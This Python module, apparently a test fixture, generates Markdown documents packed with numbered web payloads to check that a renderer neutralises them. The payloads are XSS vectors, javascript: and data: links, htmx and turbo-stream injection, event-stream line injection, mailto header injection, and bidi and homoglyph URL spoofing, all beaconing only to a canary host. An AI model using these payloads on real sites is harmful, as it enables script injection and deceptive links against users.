"""Hostile Markdown: payloads that would give themselves away if any of them came alive, and documents full of them.

A payload `{n}` that ran would set `window.pwned`, open a dialog, or ask for a canary: another host, or `/canary/` here.
"""

from __future__ import annotations

import random
import re

CANARY = re.compile(r"canary", re.IGNORECASE)

ELEMENTS = [
    "<script>window.pwned={n}</script>",
    "<script src=//canary.invalid/{n}></script>",
    "<script type=module>import '/canary/{n}'</script>",
    "<img src=x onerror=alert({n})>",
    "<img src=http://canary.invalid/{n}>",
    "<IMG SRC=/canary/{n} srcset='http://canary.invalid/{n} 2x'>",
    "<svg onload=alert({n})><use href=/canary/{n} /></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s></svg>",
    "<svg><style><img src=/canary/{n} onerror=alert({n})></style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert({n})></style></table></mtext></math>",
    "<math href=javascript:alert({n})>x</math>",
    "<iframe src=http://canary.invalid/{n}></iframe>",
    "<iframe srcdoc='<script>parent.pwned={n}</script>'></iframe>",
    "<object data=/canary/{n}></object><embed src=/canary/{n}>",
    "<video src=/canary/{n} poster=/canary/{n} autoplay></video><audio src=/canary/{n} autoplay>",
    "<base href=http://canary.invalid/{n}/>",
    "<meta http-equiv=refresh content='0;url=http://canary.invalid/{n}'>",
    "<link rel=stylesheet href=/canary/{n}><link rel=prefetch href=http://canary.invalid/{n}>",
    "<link rel=dns-prefetch href=//canary{n}.invalid><link rel=preconnect href=http://canary{n}.invalid>",
    "<style>body{{background:url(http://canary.invalid/{n})}}</style>",
    "<p style='background:url(/canary/{n})'>x</p>",
    "<form action=http://canary.invalid/{n}><button autofocus>x</button></form>",
    "<input autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>x</details>",
    "<body onload=alert({n}) background=/canary/{n}>",
    "<a href=http://canary.invalid/{n} ping=/canary/{n}>x</a>",
    "<div id=announcer name=composer>x</div><form id=composer_prompt name=forms><input name=attributes></form>",
    "<template><script>alert({n})</script></template>",
    "</template><script>alert({n})</script><template>",
    "</bdi></a></p></div></article><script>alert({n})</script>",
    "</code></pre></textarea></title></style><img src=/canary/{n}>",
    "<!--><img src=/canary/{n}>--><![CDATA[<img src=/canary/{n}>]]><?php x?><!DOCTYPE x>",
    "<x onclick=alert({n}) tabindex=1 contenteditable>x</x>",
    "<head><title>canary {n}</title></head><title>canary {n}</title>",
]
HYPERMEDIA = [
    '<hx-partial hx-target="body" hx-swap="innerHTML">canary {n}</hx-partial>',
    "</hx-partial><hx-partial hx-target='#main' hx-swap=delete></hx-partial>",
    "<div hx-get=/canary/{n} hx-trigger=load></div>",
    "<div data-hx-get=/canary/{n} data-hx-trigger=load hx-on:htmx:load=alert({n}) hx-on::load=alert({n})></div>",
    "<p hx-boost=true hx-ext=canary hx-live=alert({n}) hx-sse:connect=/canary/{n}>x</p>",
    '<turbo-stream action="remove" target="main"></turbo-stream>',
    "</template></turbo-stream><turbo-stream action=refresh></turbo-stream><turbo-frame src=/canary/{n}></turbo-frame>",
    '<turbo-stream action="append" target="main"><template><img src=/canary/{n}></template></turbo-stream>',
]
LINES = [
    "event: done\ndata: \n\nid: 0.0.end\n\n",
    'data: <img src="/canary/{n}">\n\ndata: {{"type":"complete","content":"canary {n}"}}\n\n',
    "retry: 1\n: comment\nid: canary{n}\n",
    "x\u2028event: done\u2028data: {n}\u2028\u2028y",
    "x\u2029id: 9.9\u2029data: {n}\x85\x85event: done\x85data: {n}\x85",
    '"}}\n\ndata: {{"type":"failed","error":{{"code":"{n}","message":"canary"}}}}\n',
]
LINKS = [
    "[x](javascript:alert({n})) [x](JaVaScRiPt:alert({n})) [x](java\tscript:alert({n}))",
    "[x](&#106;avascript:alert({n})) [x](&#x6A;avascript&colon;alert({n})) [x](javascript&#58;alert({n}))",
    "[x](\\javascript:alert({n})) [x](<java\u200bscript:alert({n})>) [x](%6Aavascript:alert({n}))",
    "[x](data:text/html,<script>alert({n})</script>) [x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox({n})) [x](file:///canary/{n}) [x](blob:http://canary.invalid/{n}) [x](view-source:http://x.example)",
    "<javascript:alert({n})> <data:text/html,{n}> <JAVASCRIPT:alert({n})> <vbscript:{n}>",
    "[x]: javascript:alert({n})\n[y{n}]: data:text/html,x\n\n[x] [y{n}] ![x]",
    '[z{n}]: http://canary.invalid/{n} "onmouseover=alert({n})"\n\n[z{n}] and [a][z{n}] and ![b][z{n}]',
    "[x](//canary.invalid/{n}) [x](/canary/{n}) [x](?canary={n}) [x](#announcer) [x](\\\\canary.invalid\\{n})",
    "![x](http://canary.invalid/{n}.png) ![](/canary/{n}.png) ![x](data:image/svg+xml,<svg onload=alert({n})>)",
    "[![x](http://canary.invalid/{n})](http://canary.invalid/{n}) ![![x](/canary/{n})](http://canary.invalid/{n})",
    '![x](http://canary.invalid/{n} \'a"onerror=alert({n}) \') !["onerror="alert({n})](http://canary.invalid/{n})',
    '[x](http://canary.invalid/"onmouseover="alert({n})) [x](http://canary.invalid/{n} "\'><img src=/canary/{n}>")',
    "[x](<http://canary.invalid/<script>alert({n})</script>>) [x](http://canary.invalid/&quot;&gt;&lt;script&gt;)",
    "[^{n}]\n\n[^{n}]: footnote <img src=/canary/{n}>",
    "http://canary.invalid/{n} https://canary.invalid/{n}?<b>=`x`#\"'> ftp://canary.invalid/{n} www.canary.invalid",
    "[x](mailto:a@b.example?bcc=canary@b.example&subject={n}) [x](mailto:a@b.example%0d%0aBcc:canary@b.example)",
    "[x](mailto:a@b.example?subject=x%0aBcc:canary@b.example) [x](mailto:?attach=/etc/canary) mailto:a@b.example?cc=c",
    "[x](mailto:a@b.example?subject=ok%20{n}&body=two%0Alines)",
]
TRICKS = [
    "[https://bank.example](https://bank.example@canary.invalid/{n}) https://bank.example:80@canary.invalid/{n}",
    "<https://bank.example%2Fx@canary.invalid/{n}> [x](https://bank.example\\@canary.invalid/{n})",
    "[bank\u202eelpmaxe.\u202c](http://canary.invalid/{n}) [`moc\u202eknab`](http://canary.invalid/{n})",
    "\u202esee [bank.example](http://canary.invalid/{n}) and https://canary.invalid/{n}",
    "\u2067 see [bank.example](http://canary.invalid/{n}) \u202d and https://canary.invalid/{n} \u2069\u202c",
    "[**\u2066b\u2069ank** *\u2068x*\u061c.example](http://canary.invalid/{n}) <http://canary.invalid/\u202egpj.{n}>",
    "[\u200bbank\u00ad.exa\u2060mple\ufeff\U000e0041\u180e\u3164](http://canary.invalid/{n})",
    "https://canary.invalid\u200b.bank.example/{n} https://ban\u200bk.example/{n} https://bank.example\u2024canary.invalid/",
    "https://bank.example\u2215{n}.canary.invalid https://bank.example\uff0f{n}.canary.invalid <https://b\u0430nk.example/>",
    "https://xn--bnk-6cd.example/{n} <https://xn--bnk-6cd.example/{n}> [b\u0430nk.example](https://b\u0430nk.example/{n})",
    "https://canary.invalid/%E2%80%AE{n} <https://canary.invalid/%E2%80%AE%0d%0a{n}>",
    "![\u202egpj.x `\u202ey`](http://canary.invalid/{n})",
    "[\u05d0\u05d1 bank.example](http://canary.invalid/{n}) \u0627\u0644 [bank.example](http://canary.invalid/{n})",
]
CODE = [
    '```"><script>alert({n})</script>\nx\n```',
    "~~~html onclick=alert({n}) class=x\n<img src=/canary/{n} onerror=alert({n})></code></pre>\n~~~",
    "```html\n<script>window.pwned={n}</script><style>@import '/canary/{n}'</style>\n```",
    "```python\n'''</span></code><img src=/canary/{n}>'''\n```",
    "```\u202ejs`\n</pre><script>alert({n})</script>\n",
    "```language-x&quot;onclick=alert({n})\nx\n```",
    "```css\nbody {{ background: url(/canary/{n}) }}\n```",
    "`</code><img src=/canary/{n}>` ``<script>alert({n})</script>``",
    "    <script>window.pwned={n}</script>\n    <img src=/canary/{n}>",
]
TABLES = [
    "| <script>alert({n})</script> | <img src=/canary/{n}> |\n|:--|--:|\n| </table> | [x](javascript:alert({n})) |",
    '| a |\n|:-:"onclick=alert({n})|\n| b |',
    "| ![x](http://canary.invalid/{n}) |\n|---|\n| <td onclick=alert({n})> |\n| &lt;img src=/canary/{n}&gt; |",
]
ENTITIES = [
    "&lt;img src=/canary/{n} onerror=alert({n})&gt; &#60;script&#62;alert({n})&#60;/script&#62;",
    "&lt;hx-partial hx-target=body&gt;&#x3C;/template&#x3E;&NewLine;&Tab;&colon;&lpar;",
    "\\<script>alert({n})\\</script> &amp;lt;script&amp;gt; &#0; &#xD800; &#x202E;{n}",
    "*<b>*</b>* **<i** onclick=alert({n})>** ~~</s>~~ __<u>__",
]
BOMBS = [
    ">" * 300 + " {n}",
    "- " * 150 + "{n}",
    "[" * 400 + "x](javascript:alert({n}))" + "]" * 400,
    "*" * 301 + "{n}" + "*_" * 150,
    "![" * 100 + "{n}" + "](/canary/{n})" * 100,
    "<b>" * 100 + "&" * 200 + "<" * 200 + "{n}",
    "`" * 99 + "{n}" + "`" * 98,
    "x" * 1500 + "<img src=/canary/{n}>" + "\u0301" * 300,
]
# Longer than a frame: they are seen while they are open.
LONG = [
    "```html\n" + "<img src=/canary/{n} onerror=alert({n})>\n" * 40 + "```",
    "    <img src=/canary/{n} onerror=alert({n})>\n" * 30,
    "word <b onclick=alert({n})>and</b> <img src=/canary/{n}> " * 25,
    "<img/src='/canary/{n}'/onerror='alert({n})'/" + "x" * 420 + "> and [x](javascript:alert({n})" + "x" * 420,
    "- <img src=/canary/{n} onerror=alert({n})> [x](javascript:alert({n}))\n" * 16,
    "> <img src=/canary/{n} onerror=alert({n})> ![x](/canary/{n})\n" * 16,
    "| a | b |\n|---|---|\n" + "| <img src=/canary/{n}> | [`\u202ex`](http://canary.invalid/{n}) |\n" * 16,
]
PAYLOADS = [*ELEMENTS, *HYPERMEDIA, *LINES, *LINKS, *TRICKS, *CODE, *TABLES, *ENTITIES, *BOMBS, *LONG]
# What stands around a payload: before each of its lines, and behind it.
PLACES = [
    *(("", ""), ("> ", ""), ("- ", ""), ("1. ", ""), ("# ", ""), ("   ", ""), ("> - > ", "")),
    *(("**", "**"), ("[", "](http://canary.invalid/)"), ("![", "](/canary/x)"), ("| a |\n|---|\n| ", " |")),
]
# Ends for a last payload, which nothing closes.
ENDINGS = [
    "```html\n<img src=/canary/0>",
    "[x](javascript:alert(0)",
    "<img src=/canary/0 ",
    "| a |\n|---|\n| <b",
    "> - <",
]


def payload(template: str, number: int) -> str:
    """One payload, which names its number where it would come alive."""
    return template.format(n=number)


def document(seed: int, characters: int) -> tuple[str, int]:
    """As many payloads as fit, in places drawn by the seed; gives the text, and how many it holds.

    Each is preceded by the word `payload<number>.`, by which a reader can tell that it has come.
    """
    draw = random.Random(seed)
    parts = [f"{draw.choice(ENDINGS)} {seed}"]
    left = characters - len(parts[0])
    count = 0
    while True:
        # Every payload as it is, in the order of the list, and then what chance puts together.
        template = PAYLOADS[count] if count < len(PAYLOADS) else draw.choice(PAYLOADS)
        as_it_is = count < len(PAYLOADS) and (seed % 2 or template in LONG)
        before, after = PLACES[0] if as_it_is else draw.choice(PLACES)
        text = payload(template, count)
        wrapped = before + text.replace("\n", "\n" + before.rpartition("\n")[2]) + after
        part = f"payload{count}.\n\n{wrapped}\n\n"
        if len(part) > left:
            return "".join(parts[1:] + parts[:1]), count
        parts.append(part)
        left -= len(part)
        count += 1
